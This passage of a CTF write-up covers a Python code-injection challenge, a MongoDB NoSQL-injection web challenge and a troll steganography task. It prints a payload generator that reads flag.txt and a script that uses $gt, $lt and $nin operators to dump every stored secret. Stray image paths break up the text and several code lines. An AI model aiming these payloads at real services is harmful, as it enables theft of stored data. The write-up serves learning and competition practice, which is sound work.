The syntaxhighlighting shows quite nicely what’s happening here. The first double quote starts a string. Unassigned strings that just appear like that in the code are ignored by the Python interpreter. By using a slash before the next double quote it is escaped and the string does not terminate here. It only terminates at the third quote which is also the middle of my input. After that the actual payload is being executed. The mirrored string at the end is then again simply ignored.

Since our payload is first run through an inner Python call, before being fed into the exec call, we need to encapsulate our “real” payload with a print() statement. This limits our final payload length to 34 characters, which is indeed quite limiting but just enough to get it to work.

This is my script which generates the input for me, which I can then feed into netcat, together with the two payloads I ran to find the flag.

#!/usr/bin/env python3

command = "1234567890123456789012345678901234" # max length
command = "import os;print(os.listdir());"
command ="print(open(\\'flag.txt\\').read())"

command2 = f"print('{command}');"

inject = '"\'\\"'
inject += command2[::-1]
inject += ';";'
inject += command2
inject += '"\\\'"'

if len(inject) > 100:
    print("TOO LONG!")The resulting payload is 95 characters in total, so just shy of the 100 character limit.



The flag is a reference to xkcd #1632.

secure secret sharing


Level: PSpoopy

Points: 300

Categories: web

Author: rugo|RedRocketI saved the flag at thisuseful webapp. But I lost the link :(.


The website let’s you “safely” store secrets and share them with others. Thankfully the author even provided us the full source code. Let’s have a look at the website first.




As we can see from the source code as well as interacting with the website, once we post a secret to it, we’ll get a link in return that is using the sha256 hash of our secret as the identifier. The server is using a mongoDB backend to store the entries. To serve a secret back to the user itis using this piece of code:

app.get('/secret_share', function(request, response) {
    var secid = request.query.secid;
    var sec = collection.findOne({id: secid});

The problem with this is that it is vulnerable to NoSQL Injection, similar to the classic SQL Injection in relational databases. Examples can be found here, with more documentation here. This leads to the fact that we can query for unknown secrets without knowing their respectivehashes. We could for example negate our previous query and ask for a secret that does not have our hash by using the $ne operator:


This yields us a different secret (in fact, it’s the first secret uploaded). If we know multiple different hashes, that we do not want to retrieve, we can combine those by using the $nin operator and an array parameter:


We also have the ability to search hashes that are greater ($gt) or smaller ($lt) than a target value:


Together we can combine these queries to search for every secret that is stored on the service. We have to divide the search space otherwise the resulting URLs would get too long. Here is an automation script to handle the task. It basically queries the databases for a random secret within a given hash range, takes the output and adds it’s hash to the $nin array until no new results come back. In this case we go to the next search slice. Since we know from the source code that no secret can contain the string csr we know when we’ve found the flag.

#!/usr/bin/env python3

import requests
import re
import hashlib
import sys

found = []

for index in range(0,255):
    found_new = True
    print(f"Starting from index {index} ({index:02x})")
    while found_new:url =f"http://chal.cybersecurityrumble.de:37585/secret_share?secid[$gt]={index:02x}00000000000000000000000000000000000000000000000000000000000000&secid[$lt]={index+1:02x}00000000000000000000000000000000000000000000000000000000000000"
        for hash in found:
            url += f"&secid[$nin][]={hash}"

        ans = requests.get(url)

        match = re.search('<!-- secret will be placed here -->(.*)<!-- end secret -->', ans.text, re.IGNORECASE | re.MULTILINE)

        if match is None:
            print("Exhausted search, counting up")
            found = []found_new = False
            word = match.group(1)
            #print(f"Found new secret: {word}")
            if re.search('csr', word, re.IGNORECASE):
                print(f"FOUND FLAG: {word}")

If we let it run for long enough, we eventually find the flag:


This flag is again an xkcd refernce, this time to the well know xkcd #327.



Level: 5Spooky7Me

Points: 1337

Categories: Stegano

Author: rugo,fluxhorst|RedRocket


In the grand tradition of great stegano tasks. stego.mp4


The last flag I was able to solve was the troll one. Rated at 1337 points it might have scared some people away at even attempting it. The video starts with some crackling background noise intermixed with some bleeping that could be morse code. Later in the video morse code even appears on-screen.

But if you manage to sit through this music,


you are granted with the flag in the clear:


I couldn’t agree with that statement more!

Final remarksIn the end I was able to score 2659 points, which was enough for place 38.

I’d like to extend my thanks to the organizers who not only provided some very interesting and fun challenges but were also extremely fast at solving anyand all availability issues if those even arose. I’m lookingforward to participating again next time!